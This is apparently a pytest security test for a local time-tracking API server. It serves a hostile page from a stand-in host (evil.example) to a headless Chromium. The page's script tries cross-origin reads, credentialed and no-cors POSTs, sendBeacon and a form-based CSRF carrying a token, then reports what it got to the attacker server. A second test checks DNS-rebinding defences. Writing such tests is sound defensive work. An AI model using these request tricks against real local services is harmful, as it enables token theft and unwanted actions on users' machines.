"""A page on the web, in a real Chromium, gets nothing and changes nothing, even with the token."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Final

import pytest

from tests.hub.conftest import TOKEN
from tests.hub.served_process import PATIENCE_SECONDS, Served

BROWSERS: Final = ("chromium", "chromium-browser", "google-chrome", "chrome")
PAGE: Final = """<!doctype html><title>attack</title>
<form id=f method=post enctype=text/plain target=frame><input name=x></form>
<iframe name=frame></iframe>
<script>
const told = {};
const tries = {
  read: () => fetch(API + "/api/v9/me").then(r => r.text()),
  read_signed_in: () => fetch(API + "/api/v9/me", {headers: {Authorization: BASIC}})
    .then(r => r.text()),
  cookies: () => fetch(API + "/api/v8/me", {credentials: "include"}).then(r => r.text()),
  blind: () => fetch(API + "/api/v8/time_entries/start", {method: "POST", mode: "no-cors",
    credentials: "include", body: BODY}).then(r => r.text()),
  json: () => fetch(API + "/api/v8/time_entries/start", {method: "POST", body: BODY,
    headers: {"Content-Type": "application/json", Authorization: BASIC}}).then(r => r.text()),
  beacon: async () => {
    navigator.sendBeacon(API + "/api/v8/time_entries/start", BODY);
    return "";
  },
  session: () => fetch(API + "/api/v8/sessions", {method: "POST", mode: "no-cors",
    credentials: "include"}).then(r => r.text()),
  form: async () => {
    f.action = API.replace("//", "//TOKEN:api_token@") + "/api/v8/time_entries/start";
    f.elements[0].name = BODY;
    f.submit();
    await new Promise(done => setTimeout(done, 1500));
    return "";
  },
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { told[name] = await attempt(); } catch (error) { told[name] = "blocked"; }
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Attacker:
    """The server of the page, which is told what the page got."""

    def __init__(self, target: Served) -> None:
        credentials = f'"Basic " + btoa("{TOKEN}:api_token")'
        body = json.dumps(json.dumps({"time_entry": {"created_with": "page", "description": "!"}}))
        known = (
            f"const API = 'http://127.0.0.1:{target.port}', BASIC = {credentials}, BODY = {body};"
        )
        page = PAGE.replace("<script>", f"<script>{known}").replace("TOKEN:api", f"{TOKEN}:api")
        self.found: dict[str, str] = {}
        self.is_over = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                length = int(self.headers["Content-Length"])
                attacker.found = json.loads(self.rfile.read(length))
                self.send_response(200)
                self.end_headers()
                attacker.is_over.set()

            def log_message(self, *_: object) -> None:
                """Nobody reads it."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])


@pytest.fixture
def browser() -> str:
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip("there is no Chromium")
    return found


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Served]:
    made = Served(tmp_path / "home")
    yield made
    made.end()


def command(browser: str, profile: Path, *rest: str) -> list[str]:
    return [
        *(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *("--no-first-run", f"--user-data-dir={profile}"),
        *("--host-resolver-rules=MAP *.example 127.0.0.1", *rest),
    ]


def test_a_page_gets_nothing_and_changes_nothing(
    browser: str, target: Served, tmp_path: Path
) -> None:
    attacker = Attacker(target)
    url = f"http://evil.example:{attacker.port}/"
    with subprocess.Popen(
        command(browser, tmp_path / "profile", "--remote-debugging-port=0", url),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as process:
        try:
            assert attacker.is_over.wait(2 * PATIENCE_SECONDS)
        finally:
            process.kill()
            attacker.server.shutdown()
            attacker.server.server_close()
    assert set(attacker.found.values()) <= {"", "blocked"}
    assert set(attacker.found) > {"read_signed_in", "blind", "form"}
    assert target.ask("/me/time_entries/current") is None
    assert target.ask("/me/time_entries") == []


def test_a_name_that_was_led_here_reads_nothing(
    browser: str, target: Served, tmp_path: Path
) -> None:
    url = f"http://rebound.example:{target.port}/api/v9/me"
    done = subprocess.run(
        command(browser, tmp_path / "profile", "--dump-dom", url),
        capture_output=True,
        text=True,
        timeout=2 * PATIENCE_SECONDS,
    )
    assert "Ask this computer by the name localhost" in done.stdout
    assert TOKEN not in done.stdout
